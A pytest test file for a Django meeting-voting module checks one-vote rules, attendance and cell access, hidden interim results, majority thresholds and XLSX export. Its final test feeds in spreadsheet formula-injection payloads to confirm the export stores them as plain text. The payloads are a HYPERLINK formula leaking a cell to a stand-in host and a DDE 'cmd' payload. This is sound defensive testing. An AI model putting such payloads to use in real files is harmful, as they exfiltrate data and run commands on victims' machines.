import io

from django.urls import reverse

from wagtail.models import ModelLogEntry

import pytest
from openpyxl import load_workbook

from cms.meetings import services
from cms.meetings.choices import MajorityRule
from cms.meetings.models import Ballot, VoteReceipt

from .conftest import login

pytestmark = pytest.mark.django_db


def present(meeting, secretary, people):
    for person in people:
        services.mark_attendance(secretary.user, meeting, person.pk, "present")


def make_motion(
    meeting,
    secretary,
    ballot_type="open",
    rule=MajorityRule.PRESENT_MAJORITY,
    options=("Tán thành", "Không tán thành"),
):
    motion = services.create_motion(
        secretary.user,
        meeting,
        question="Thông qua nghị quyết tháng",
        options=list(options),
        ballot_type=ballot_type,
        majority_rule=rule,
    )
    return services.open_motion(secretary.user, motion)


def option(motion, label):
    return motion.options.get(label=label)


@pytest.fixture
def voting(open_meeting, secretary, members):
    present(open_meeting, secretary, [secretary, *members[:4]])
    return make_motion(open_meeting, secretary)


def test_member_votes_once_through_the_page_and_sees_result_only_after_close(
    client, voting, secretary, members
):
    login(client, members[1])
    detail = reverse("meetings:detail", args=[voting.meeting_id])
    page = client.get(detail).content.decode()
    assert "Gửi phiếu" in page and "Tán thành" in page
    response = client.post(
        reverse("meetings:vote", args=[voting.pk]),
        {"option": option(voting, "Tán thành").pk},
        follow=True,
    )
    html = response.content.decode()
    assert "Đã ghi nhận phiếu biểu quyết của đồng chí." in html
    assert "Đồng chí đã biểu quyết" in html
    assert "Số phiếu" not in html  # no counts while open
    services.cast_vote(members[2].user, voting.pk, option(voting, "Tán thành").pk)
    services.cast_vote(members[3].user, voting.pk, option(voting, "Không tán thành").pk)
    services.close_motion(secretary.user, voting)
    html = client.get(detail).content.decode()
    assert "Thông qua: «Tán thành» 2/5 đảng viên có mặt" not in html
    assert "Không thông qua: «Tán thành» 2/5 đảng viên có mặt; cần 3" in html
    receipt_log = ModelLogEntry.objects.filter(action="meetings.vote", object_id=str(voting.pk))
    assert receipt_log.count() == 3
    assert {e.data["option"] for e in receipt_log} == {"Tán thành", "Không tán thành"}


def test_second_vote_is_refused_and_the_first_stands(client, voting, members):
    services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
    login(client, members[1])
    response = client.post(
        reverse("meetings:vote", args=[voting.pk]),
        {"option": option(voting, "Không tán thành").pk},
        follow=True,
    )
    assert "phiếu đã gửi không thể thay đổi" in response.content.decode()
    assert list(Ballot.objects.filter(motion=voting).values_list("option__label", flat=True)) == [
        "Tán thành"
    ]
    assert VoteReceipt.objects.filter(motion=voting).count() == 1


def test_vote_after_closing_is_refused(voting, secretary, members):
    services.close_motion(secretary.user, voting)
    with pytest.raises(services.MeetingError, match="Biểu quyết đã kết thúc"):
        services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
    assert not Ballot.objects.filter(motion=voting).exists()


def test_vote_after_meeting_closed_is_refused(voting, secretary, members):
    services.close_meeting(secretary.user, voting.meeting)
    with pytest.raises(services.MeetingError, match="Biểu quyết đã kết thúc"):
        services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)


def test_vote_on_a_motion_not_yet_open_is_refused(open_meeting, secretary, members):
    present(open_meeting, secretary, [members[1]])
    motion = services.create_motion(
        secretary.user,
        open_meeting,
        question="Chưa mở",
        options=["Có", "Không"],
        ballot_type="open",
        majority_rule="present_majority",
    )
    with pytest.raises(services.MeetingError, match="chưa được mở"):
        services.cast_vote(members[1].user, motion.pk, motion.options.first().pk)


def test_vote_by_an_absent_member_is_refused(client, voting, secretary, members):
    services.mark_attendance(secretary.user, voting.meeting, members[4].pk, "absent")
    login(client, members[4])
    response = client.post(
        reverse("meetings:vote", args=[voting.pk]),
        {"option": option(voting, "Tán thành").pk},
        follow=True,
    )
    assert "chưa điểm danh có mặt nên chưa thể biểu quyết" in response.content.decode()
    assert not Ballot.objects.filter(motion=voting).exists()


def test_vote_by_someone_outside_the_cell_is_refused(client, voting, other_cell_member, users):
    login(client, other_cell_member)
    response = client.post(
        reverse("meetings:vote", args=[voting.pk]),
        {"option": option(voting, "Tán thành").pk},
        follow=True,
    )
    assert "Không tìm thấy nội dung này trong chi bộ của đồng chí." in response.content.decode()
    client.force_login(users["quantri"])
    client.post(
        reverse("meetings:vote", args=[voting.pk]), {"option": option(voting, "Tán thành").pk}
    )
    assert not Ballot.objects.filter(motion=voting).exists()
    assert not VoteReceipt.objects.filter(motion=voting).exists()


def test_guessing_another_cells_motion_id_is_refused(voting, users):
    """bithu's cell (CM-X1-A1) and the test cell are different; bithu is present nowhere here."""
    bithu = users["bithu"]
    with pytest.raises(services.MeetingError, match="Không tìm thấy nội dung này"):
        services.cast_vote(bithu, voting.pk, option(voting, "Tán thành").pk)
    assert not Ballot.objects.filter(motion=voting).exists()


def test_option_of_another_motion_is_refused(voting, open_meeting, secretary, members):
    other = make_motion(open_meeting, secretary, options=("Đồng ý", "Không đồng ý"))
    with pytest.raises(services.MeetingError, match="Phương án không hợp lệ"):
        services.cast_vote(members[1].user, voting.pk, other.options.first().pk)


def test_results_are_hidden_until_close_even_in_the_live_json(
    client, voting, secretary, members, django_capture_on_commit_callbacks
):
    """docs/meetings.md: while a vote is open only who runs the meeting sees the running
    count; members see that it is open; everyone sees the result once it closes."""
    services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
    url = reverse("meetings:live", args=[voting.meeting_id])
    detail = reverse("meetings:detail", args=[voting.meeting_id])
    login(client, members[2])
    member_etag = client.get(url)["ETag"]
    (entry,) = client.get(url).json()["motions"]
    assert entry == {"id": voting.pk, "status": "open"}
    assert "Đã nhận" not in client.get(detail).content.decode()
    login(client, secretary)
    secretary_view = client.get(url, HTTP_IF_NONE_MATCH=member_etag)
    assert secretary_view.status_code == 200  # not the member's copy
    (entry,) = secretary_view.json()["motions"]
    assert entry["votes"] == 1 and "result" not in entry
    assert "Đã nhận <strong" in client.get(detail).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        services.close_motion(secretary.user, voting)
    login(client, members[2])
    data = client.get(url).json()
    assert data["motions"][0]["result"]["options"][0] == {"label": "Tán thành", "count": 1}
    assert data["motions"][0]["votes"] == 1


@pytest.mark.parametrize(
    ("rule", "yes", "passed"),
    [
        (MajorityRule.PRESENT_MAJORITY, 3, True),  # 3 of 5 present > half
        (MajorityRule.PRESENT_MAJORITY, 2, False),
        (MajorityRule.MEMBERS_MAJORITY, 3, False),  # 3 of 6 members is not more than half
        (MajorityRule.MEMBERS_MAJORITY, 4, True),
        (MajorityRule.TWO_THIRDS, 3, False),  # needs 4 of 5 present (ceil 10/3)
        (MajorityRule.TWO_THIRDS, 4, True),
    ],
)
def test_majority_rules(open_meeting, secretary, members, rule, yes, passed):
    voters = [secretary, *members[:4]]
    present(open_meeting, secretary, voters)
    motion = make_motion(open_meeting, secretary, rule=rule)
    for i, voter in enumerate(voters):
        label = "Tán thành" if i < yes else "Không tán thành"
        services.cast_vote(voter.user, motion.pk, option(motion, label).pk)
    motion = services.close_motion(secretary.user, motion)
    result = services.motion_result(motion)
    assert result["passed"] is passed
    assert result["rows"][0]["count"] == yes
    assert result["rows"][0]["share"] == round(100 * yes / 5, 1)


def test_motion_needs_two_distinct_options(open_meeting, secretary):
    with pytest.raises(services.MeetingError, match="ít nhất hai phương án"):
        services.create_motion(
            secretary.user,
            open_meeting,
            question="Q",
            options=["Một"],
            ballot_type="open",
            majority_rule="present_majority",
        )


def test_only_the_secretary_or_chair_opens_and_closes_motions(client, voting, members):
    login(client, members[1])
    client.post(reverse("meetings:motion_close", args=[voting.pk]), follow=True)
    voting.refresh_from_db()
    assert voting.is_open


def test_results_export_to_xlsx(client, voting, secretary, members):
    services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
    services.close_motion(secretary.user, voting)
    login(client, members[2])
    response = client.get(reverse("meetings:motions_xlsx", args=[voting.meeting_id]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    rows = [list(r) for r in book["Kết quả biểu quyết"].iter_rows(values_only=True)]
    assert rows[4][:6] == [
        "Thông qua nghị quyết tháng",
        "Biểu quyết công khai",
        "Quá nửa số đảng viên có mặt",
        "Tán thành",
        1,
        20.0,
    ]
    detail = [list(r) for r in book["Danh sách đã biểu quyết"].iter_rows(values_only=True)]
    assert ["Thông qua nghị quyết tháng", members[1].full_name, "Tán thành"] in detail


def test_results_xlsx_stores_questions_options_and_names_as_text(
    client, open_meeting, secretary, members
):
    """Issue 15, item 3: nothing a person typed becomes a formula in the sheet."""
    question = '=HYPERLINK("http://ke-gian.example/?c="&C2,"Bấm để xác nhận")'
    labels = ["+Tán thành", "-Không tán thành", "@Ý kiến khác"]
    members[1].full_name = "=cmd|' /C calc'!A0"
    members[1].save()
    present(open_meeting, secretary, [secretary, *members[:4]])
    motion = services.open_motion(
        secretary.user,
        services.create_motion(
            secretary.user,
            open_meeting,
            question=question,
            options=labels,
            ballot_type="open",
            majority_rule=MajorityRule.PRESENT_MAJORITY,
        ),
    )
    services.cast_vote(members[1].user, motion.pk, option(motion, labels[0]).pk)
    services.close_motion(secretary.user, motion)
    login(client, members[2])
    response = client.get(reverse("meetings:motions_xlsx", args=[open_meeting.pk]))
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    typed = [c for c in cells if c.value in {question, *labels, members[1].full_name}]
    assert {c.value for c in typed} == {question, *labels, members[1].full_name}
    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
